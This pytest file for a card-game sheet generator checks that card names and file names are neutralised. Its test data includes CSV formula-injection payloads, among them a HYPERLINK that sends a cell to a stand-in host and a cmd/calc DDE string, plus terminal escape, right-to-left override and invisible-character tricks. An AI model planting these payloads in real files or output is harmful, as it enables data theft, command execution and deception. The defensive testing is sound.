"""Text from the data is inert wherever pnpgen writes or prints it: CSV cells that a spreadsheet
would run are neutralised (OWASP: a leading '), the XLSX writer stores them as text; control
characters in the data are an error naming the field; what reaches the terminal is escaped."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import DECK_YAML, FEW_CARDS, make_workspace, run
from pnpgen.safetext import CONTROL, csv_cell, csv_text, shown, shown_name

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)"]
# The same typed with a Japanese input method (full-width): Japanese Excel runs them too
WIDE_EVIL = ["＝HYPERLINK(\"http://x.example/\",\"click\")", "＋1+1", "－2+3", "＠SUM(A1:A2)"]
LIVE = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _evil_workspace(tmp_path: Path, names: list[str] = EVIL) -> Path:
    deck = DECK_YAML + "".join(f"  - {{name: {json.dumps(n, ensure_ascii=False)}, text: 本文}}\n" for n in names)
    return make_workspace(tmp_path / "ws", deck=deck)


def _inert(rows: list[list[str]], names: list[str] = EVIL) -> None:
    cells = [c for row in rows for c in row]
    assert not any(c.startswith(LIVE) for c in cells)
    for name in names:
        assert "'" + name in cells


def test_formulas_in_names_are_inert_in_every_csv(tmp_path):
    ws = _evil_workspace(tmp_path)
    assert run(ws, "build", "--game", "test", "--no-rulebook", "--jobs", "1") == 0
    _inert(_cells((ws / "build/test/shop/order.csv").read_bytes()))
    assert run(ws, "export", "--game", "test", "--preset", "doujin") == 0
    _inert(_cells((ws / "build/test/doujin/order.csv").read_bytes()))
    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "cards.csv")) == 0
    _inert(_cells((tmp_path / "cards.csv").read_bytes()))


@pytest.mark.parametrize("writer", ["build", "export", "export-sheet"])
def test_full_width_formula_marks_are_inert_in_each_csv(tmp_path, capsys, writer):
    """A name typed with a Japanese input method, ＝HYPERLINK(…) or ＋1+1, was written as it is:
    Japanese Excel reads a full-width ＝ ＋ － ＠ as the start of a formula."""
    ws = _evil_workspace(tmp_path, WIDE_EVIL)
    if writer == "build":
        assert run(ws, "build", "--game", "test", "--no-rulebook", "--jobs", "1") == 0
        written = ws / "build/test/shop/order.csv"
    elif writer == "export":
        assert run(ws, "export", "--game", "test", "--preset", "doujin") == 0
        written = ws / "build/test/doujin/order.csv"
    else:
        assert run(ws, "export-sheet", "--game", "test", "--deck", "cards") == 0
        written = ws / "data/test/decks/cards.csv"
    _inert(_cells(written.read_bytes()), WIDE_EVIL)
    if writer == "export-sheet":  # and reads back to the names as typed
        (ws / "data/test/decks/cards.yaml").write_text(DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"),
                                                        encoding="utf-8")
        from pnpgen.data.load import load_game
        from pnpgen.data.workspace import Workspace

        names = [p.values["name"] for p in load_game(Workspace(ws), "test").decks[0].pieces]
        assert names == WIDE_EVIL


def test_the_neutralised_csv_reads_back_to_the_same_names(tmp_path, capsys):
    ws = _evil_workspace(tmp_path)
    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards") == 0
    deck = ws / "data/test/decks/cards.yaml"
    deck.write_text(DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"), encoding="utf-8")
    capsys.readouterr()
    assert run(ws, "list") == 0
    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "again.csv")) == 0
    _inert(_cells((tmp_path / "again.csv").read_bytes()))


def test_a_field_named_like_a_formula_is_inert_in_the_sheets_header_and_reads_back(tmp_path, capsys):
    """The header row of export-sheet's CSV was written as it is: a deck (from someone else) whose
    field is named =HYPERLINK(…) put a live formula at the top of the sheet Excel opens."""
    deck = DECK_YAML.replace("  text: text\n", f"  text: text\n  {json.dumps(EVIL[0])}: text\n")
    ws = make_workspace(tmp_path / "ws", deck=deck + f"  - {{name: 祝福, {json.dumps(EVIL[0])}: 値}}\n")
    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards") == 0
    header = _cells((ws / "data/test/decks/cards.csv").read_bytes())[0]
    assert "'" + EVIL[0] in header and not any(c.startswith(("=", "+", "-", "@")) for c in header), header
    (ws / "data/test/decks/cards.yaml").write_text(deck.replace("pieces:\n", "pieces: {file: cards.csv}\n"),
                                                    encoding="utf-8")
    from pnpgen.data.load import load_game
    from pnpgen.data.workspace import Workspace

    assert load_game(Workspace(ws), "test").decks[0].pieces[0].values[EVIL[0]] == "値"


@pytest.mark.parametrize("deck_id, title", [("c[1]", "c_1_"), ("History", "pieces")])
def test_a_deck_named_as_no_worksheet_may_be_exported_to_xlsx(tmp_path, capsys, deck_id, title):
    """A deck file c[1].yaml ended export-sheet --format xlsx in openpyxl's ValueError traceback
    ([ ] : * ? / \\ are no worksheet's characters); History is Excel's own sheet name."""
    import openpyxl

    ws = make_workspace(tmp_path / "ws", pieces=["祝福"])
    copy = ws / "data/test/decks" / f"{deck_id}.yaml"
    copy.write_text((ws / "data/test/decks/cards.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    out = tmp_path / "c.xlsx"
    assert run(ws, "export-sheet", "--game", "test", "--deck", deck_id, "--format", "xlsx", "--out", str(out)) == 0
    sheet = openpyxl.load_workbook(out).active
    assert sheet.title == title and [c.value for c in sheet[2]][:1] == ["祝福"]


def test_xlsx_stores_formula_like_names_as_text(tmp_path):
    import openpyxl

    ws = _evil_workspace(tmp_path)
    assert run(ws, "export-sheet", "--game", "test", "--deck", "cards", "--out", str(tmp_path / "c.xlsx")) == 0
    sheet = openpyxl.load_workbook(tmp_path / "c.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert {c.value for c in cells} >= set(EVIL)
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("written, char", [(r'"\e]0;pwned\a"', "U+001B"), (r'"a\0b"', "U+0000"),
                                           ('"\u202eevil"', "U+202E"), (r'"x\u2066y"', "U+2066"),
                                           (r'"\x85 NEL"', "U+0085"), (r'"del\x7f"', "U+007F"),
                                           # half of a character: no file holds it as UTF-8 (a traceback
                                           # where the manifest or the rulebook was written)
                                           (r'"a\ud800b"', "lone surrogate U+D800")])
def test_a_control_character_in_the_data_is_an_error_naming_the_field(tmp_path, capsys, written, char):
    deck = DECK_YAML + "  - {name: 普通, text: 本文}\n" + f"  - {{name: {written}, text: 本文}}\n"
    ws = make_workspace(tmp_path / "ws", deck=deck)
    assert run(ws, "list") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "cards.yaml:10:" in err and "pieces.2.name" in err and char in err
    assert "\x1b" not in err and "\u202e" not in err and "\ud800" not in err


@pytest.mark.parametrize("where, expected", [
    ("piece", "cards.yaml:10:25: pieces.2.name.en: U+FFFD"),
    ("game", "game.yaml:1:25: title.en: U+FFFD"),
    ("sheet", "cards.csv:3:2: name.en (column B): cell B3 holds"),
])
def test_another_editions_text_that_lost_its_characters_is_an_error_in_every_edition(tmp_path, capsys, where, expected):
    """A translation holding U+FFFD (a paste from a file read in the wrong encoding) printed in its
    edition as a box or a question mark, and a build of the default language never looked at it:
    refused at its line as a spreadsheet's cell is, whichever edition is built."""
    game = "title: {ja: テストゲーム, en: Test}\nlanguages: [ja, en]\n"
    deck = DECK_YAML + "  - {name: 普通, text: 本文}\n  - {name: {ja: 名前, en: Na\ufffde}, text: 本文}\n"
    if where == "game":
        game = game.replace("en: Test", "en: Te\ufffdst")
        deck = DECK_YAML + "  - {name: 普通, text: 本文}\n"
    elif where == "sheet":
        deck = DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n")
    ws = make_workspace(tmp_path / "ws", deck=deck, game=game)
    (ws / "data/test/decks/cards.csv").write_text("name,name.en,text\n普通,Plain,本文\n名前,Na\ufffde,本文\n", encoding="utf-8")
    for lang in ([], ["--lang", "en"]):
        assert run(ws, "check", "--game", "test", *lang) == 2
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and expected in err, err


def test_a_control_character_in_a_spreadsheet_is_an_error_at_its_cell(tmp_path, capsys):
    ws = make_workspace(tmp_path / "ws", deck=DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"))
    (ws / "data/test/decks/cards.csv").write_text("name,text\nok,本文\nbad\x1b[31m,本文\n", encoding="utf-8")
    assert run(ws, "list") == 2
    err = capsys.readouterr().err
    assert "cards.csv:3:1: name: control character U+001B" in err and "\x1b" not in err


def test_an_unterminated_csv_quote_is_an_error_not_lost_rows(tmp_path, capsys):
    ws = make_workspace(tmp_path / "ws", deck=DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"))
    (ws / "data/test/decks/cards.csv").write_text('name,text\nA,"本文\nB,本文\nC,本文\n', encoding="utf-8")
    assert run(ws, "list") == 2
    assert "cards.csv:2: a quoted cell opened in this row is never closed" in capsys.readouterr().err


@pytest.mark.parametrize("rows", [
    'A,"' + "あ" * 200_000 + '",1\n',  # a cell beyond Python's csv limit
    'A,"本文\n' + "B,本文,1\n" * 20_000,  # a quote never closed, in a file longer than the limit
])
def test_a_csv_cell_beyond_the_readers_limit_is_said_in_words(tmp_path, capsys, rows):
    """It said "cannot read the CSV: field larger than field limit (131072) (expected comma-separated values)"."""
    ws = make_workspace(tmp_path / "ws", deck=DECK_YAML.replace("pieces:\n", "pieces: {file: cards.csv}\n"))
    (ws / "data/test/decks/cards.csv").write_text("name,text,count\n" + rows, encoding="utf-8")
    assert run(ws, "list") == 2
    err = capsys.readouterr().err
    assert err == ("pnpgen: error: data/test/decks/cards.csv:2: a cell of this row holds more than 131,072 characters "
                   "(expected cells of a card's text, a few hundred characters; or a closing \" for a quote opened in "
                   "this row)\n")


def test_terminal_output_escapes_what_it_echoes(tmp_path, capsys):
    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    assert run(ws, "build", "--game", "no\x1b]0;title\x07pe") == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_shown_leaves_no_control_character(text):
    assert CONTROL.search(shown(text)) is None


@settings(max_examples=100, deadline=None)
@given(st.text())
def test_csv_cells_round_trip_and_are_never_live(text):
    cell = csv_cell(text)
    assert not cell.startswith(LIVE)
    assert csv_text(cell) == text or (text.startswith("'") and text[1:2] in LIVE)


@pytest.mark.parametrize("name", ["a\nb", "c\x1b]0;pwned\x07d", "e\u202egpj.exe"])
@pytest.mark.parametrize("where", ["deck", "game"])
def test_a_control_character_in_a_deck_or_game_folders_name_is_one_line(tmp_path, capsys, name, where):
    """A file name is data too: a deck file or a game folder named with a line feed, a terminal
    sequence or a right-to-left override (whose deck.pdf a file manager shows reversed) stops in
    one line saying so and naming it escaped — an escape in a deck's name stopped the build as
    'the template produced invalid SVG'."""
    import shutil

    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    if where == "deck":
        decks = ws / "data" / "test" / "decks"
        shutil.copy(decks / "cards.yaml", decks / f"{name}.yaml")
        args = ["--game", "test"]
    else:
        shutil.copytree(ws / "data" / "test", ws / "data" / name)
        args = ["--all"]
    capsys.readouterr()
    assert run(ws, "build", *args, "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err and not CONTROL.search(err), err
    assert "holds the control character U+" in err and f"rename {shown_name(name)}" in err, err
    assert not (ws / "build").exists() or not any((ws / "build").rglob("*.pdf"))


def test_a_game_name_typed_with_a_control_character_is_an_unknown_game(tmp_path, capsys):
    """--game with an escape typed (no such folder): it was told to rename a game folder that is not there."""
    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    capsys.readouterr()
    assert run(ws, "check", "--game", "test\x1b[31m") == 2
    err = capsys.readouterr().err
    assert err == "pnpgen: error: unknown game 'test\\x1b[31m'; did you mean test? (expected one of test)\n", err


@pytest.mark.parametrize("where", ["deck", "title", "sourced"])
def test_a_line_break_in_a_name_is_one_line_error(tmp_path, capsys, where):
    """A deck's name, the game's title and a component's name are said on one line (the build's
    summary, reprint.txt, the change report): a line break there began a line of the data's own —
    a forged 'pnpgen: error …' line on the terminal, a false 'reprint nothing' in reprint.txt."""
    from conftest import GAME_YAML

    forged = '"X\\npnpgen: error: nothing to reprint"'
    deck = DECK_YAML.replace("name: テストカード", f"name: {forged}") if where == "deck" else None
    game = {"title": GAME_YAML.replace("title: テストゲーム", f"title: {forged}"),
            "sourced": GAME_YAML + f"sourced:\n  - {{name: {forged}, count: 3}}\n"}.get(where, GAME_YAML)
    ws = make_workspace(tmp_path / "ws", deck=deck, game=game)
    capsys.readouterr()
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err.count("\n") == 1, captured
    said = {"deck": "cards.yaml:1:7: name: a deck's name", "title": "game.yaml:1:8: title: the game's title",
            "sourced": "game.yaml:9:12: sourced.1.name: a component's name"}[where]
    assert f"{said} holds a line break" in captured.err, captured.err


def test_a_lone_surrogate_in_a_text_no_face_shows_is_one_line(tmp_path, capsys):
    """A YAML escape of half a character in a text no face draws (a sourced component's note,
    the subtitle) passed every check and stopped the build with a traceback, UnicodeEncodeError,
    where the files were written."""
    from conftest import GAME_YAML

    ws = make_workspace(tmp_path / "ws", game=GAME_YAML + 'sourced:\n  - {name: 駒, count: 3, note: "a\\ud800"}\n')
    capsys.readouterr()
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    assert "game.yaml:9:31: sourced.1.note: lone surrogate U+D800 in the text" in err, err


def test_a_file_name_not_in_utf_8_is_said_for_a_deck_and_passed_over_elsewhere(tmp_path, capsys):
    """A zip made on Windows keeps Japanese names in Shift_JIS; unpacked on Linux or a Mac their
    bytes are not UTF-8. Any such file in the game's folder stopped every build with a traceback
    (UnicodeEncodeError where the inputs were hashed): a file nobody names is passed over, and
    a deck file so named is one line saying what is wrong with its name."""
    import os
    import shutil

    ws = make_workspace(tmp_path / "ws", draft=True)
    game = os.fsencode(ws / "data" / "test")
    (ws / "data" / "test" / "art").mkdir()
    for folder, name in ((os.path.join(game, b"art"), "画像.png"), (game, "メモ.txt"),
                         (os.fsencode(ws / "templates" / "test"), "古い.svg.j2")):
        with open(os.path.join(folder, name.encode("cp932")), "wb") as f:
            f.write(b"not read")
    for command in ("list", "check", "build", "rulebook"):  # (each hashes the files it reads, by name)
        assert run(ws, command, *(["--game", "test"] if command != "list" else [])) == 0, command
    shutil.copy(ws / "data" / "test" / "decks" / "cards.yaml", os.path.join(game, b"decks", "札.yaml".encode("cp932")))
    capsys.readouterr()
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err and not CONTROL.search(err), err
    assert "a deck file's name holds bytes that are not UTF-8" in err and "rename \\udc8eD.yaml" in err, err


@pytest.mark.parametrize("char, named", [("\u200b", "U+200B (ZERO WIDTH SPACE)"), ("\ufeff", "U+FEFF (ZERO WIDTH NO-BREAK SPACE)"),
                                         ("\u00a0", "U+00A0 (NO-BREAK SPACE)"), ("\u2060", "U+2060 (WORD JOINER)")])
def test_a_deck_file_whose_name_holds_an_invisible_character_is_refused_naming_it(tmp_path, capsys, char, named):
    """hostile: cards.yaml and cards + U+200B .yaml built as two decks whose files look the same."""
    import shutil

    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    decks = ws / "data" / "test" / "decks"
    shutil.copy(decks / "cards.yaml", decks / f"my{char}cards.yaml")
    capsys.readouterr()
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "Traceback" not in err, err
    escaped = f"\\u{ord(char):04x}"
    assert (f"data/test/decks: a deck file's name holds the invisible character {named}, character 3 (expected a "
            f"deck file name without invisible characters: rename my{escaped}cards.yaml to mycards.yaml)") in err, err
    assert char not in err
    assert not (ws / "build").exists()


@pytest.mark.parametrize("char, named", [("\u200b", "U+200B (ZERO WIDTH SPACE)"), ("\u200f", "U+200F (RIGHT-TO-LEFT MARK)")])
def test_a_game_folder_or_a_field_whose_name_holds_an_invisible_character_is_refused_naming_it(tmp_path, capsys, char,
                                                                                              named):
    """hostile40: a game folder te + U+200B + st built as a game whose outputs look like test's; a
    deck's field te + U+200B + xt was told by its template, 'no field text; did you mean text?'."""
    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    escaped = f"\\u{ord(char):04x}"
    (ws / "data" / "test").rename(ws / "data" / f"te{char}st")
    capsys.readouterr()
    assert run(ws, "build", "--all", "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert err == (f"pnpgen: error: data: a game folder's name holds the invisible character {named}, character 3 "
                   f"(expected a folder name without invisible characters: rename te{escaped}st to test)\n"), err
    assert not (ws / "build").exists()
    (ws / "data" / f"te{char}st").rename(ws / "data" / "test")
    deck = ws / "data" / "test" / "decks" / "cards.yaml"
    deck.write_text(deck.read_text(encoding="utf-8").replace("  text: text\n", f"  te{char}xt: text\n"), encoding="utf-8")
    assert run(ws, "check", "--game", "test") == 2
    err = capsys.readouterr().err
    assert err == (f"pnpgen: error: data/test/decks/cards.yaml:7:3: fields.te{escaped}xt: the field name te{escaped}xt "
                   f"holds the invisible character {named}, character 3 (expected text, typed again without it, as the "
                   "templates and pieces name it)\n"), err


@pytest.mark.parametrize("line, said", [
    ("format: poker\u2010double", "unknown format 'poker\u2010double'; did you mean poker-double? (what is written holds "
                                  "the character U+2010 (HYPHEN), character 6, which looks like -)"),
    ("format: po\u200bker", "unknown format 'po\\u200bker'; did you mean poker? (what is written holds the invisible "
                            "character U+200B (ZERO WIDTH SPACE), character 3)"),
    ("fo\u200bo: 1", "cards.yaml:1:1: fo\\u200bo: unknown key in a deck file (the key path holds the invisible character "
                     "U+200B (ZERO WIDTH SPACE), character 3)"),
    ("la\u200byout: card-poker", "cards.yaml:1:1: la\\u200byout: unknown key in a deck file: 'la\\u200byout' has the "
                                 "invisible character U+200B (ZERO WIDTH SPACE), character 3, which shows as nothing")])
def test_a_hint_or_key_path_quoting_an_odd_character_names_it(tmp_path, capsys, line, said):
    """fixesQ: ``format: poker‐double`` (U+2010, a word processor's hyphen) was offered poker-double,
    which looks the same, and a key holding U+200B was printed raw in its key path (invisible): the
    hint names the character, the key path shows it escaped and names it, once."""
    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    deck = ws / "data" / "test" / "decks" / "cards.yaml"
    text = deck.read_text(encoding="utf-8")
    deck.write_text(text.replace("format: poker\n", line + "\n") if line.startswith("format") else line + "\n" + text,
                    encoding="utf-8")
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 2
    err = capsys.readouterr().err
    assert said in err and "\u200b" not in err and err.count("U+") == 1, err


def test_a_name_typed_in_full_width_letters_is_offered_its_half_width_one():
    """hostile39: ``format: ｐｏｋｅｒ``, ``--game ｔｅｓｔ`` or the command ``ｃｈｅｃｋ``, typed with the
    input method on 全角, were offered no near miss: difflib finds none among half-width names."""
    from pnpgen.errors import suggest

    assert suggest("ｐｏｋｅｒ", ["bridge", "poker", "poker-double"]) == \
        "; did you mean poker? (what is written is typed in full-width letters (全角))"
    assert suggest("ｃｈｅｃｋ", ["build", "check"]) == "; did you mean check? (what is written is typed in full-width letters (全角))"
    assert suggest("pokr", ["poker"]) == "; did you mean poker?"  # (no note where none is full-width)


@pytest.mark.parametrize("name", ["👩\u200d👩\u200d👧", "क्\u200dष", "カード"])
def test_a_joiner_inside_a_word_in_a_deck_file_name_builds(tmp_path, name):
    """ZWJ and ZWNJ join an emoji or shape an Indic word: not invisible characters to refuse."""
    import shutil

    ws = make_workspace(tmp_path / "ws", pieces=FEW_CARDS)
    decks = ws / "data" / "test" / "decks"
    shutil.move(decks / "cards.yaml", decks / f"{name}.yaml")
    assert run(ws, "build", "--game", "test", "--no-rulebook") == 0
